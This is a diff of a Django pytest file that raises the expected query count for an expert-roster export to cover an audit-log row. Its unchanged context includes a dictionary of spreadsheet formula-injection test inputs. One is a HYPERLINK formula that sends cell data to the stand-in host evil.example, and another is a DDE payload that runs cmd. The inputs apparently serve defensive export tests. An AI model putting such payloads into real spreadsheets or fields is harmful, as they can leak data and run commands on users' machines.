@@ -20,8 +20,9 @@ pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("experts_env")]
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
 # The roster list (staff session, permissions, filters, one page, counts).
 LIST_QUERIES = 13
-# The export page, then the export: one chunk of 100 experts with its prefetches.
-EXPORT_QUERIES = 21
+# The export page, then the export: its row in the audit log (a count and an INSERT), then one
+# chunk of 100 experts with its prefetches.
+EXPORT_QUERIES = 23
 ATTACKS = {
     "organisation": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "position": "@SUM(1+1)*cmd|' /C calc'!A0",
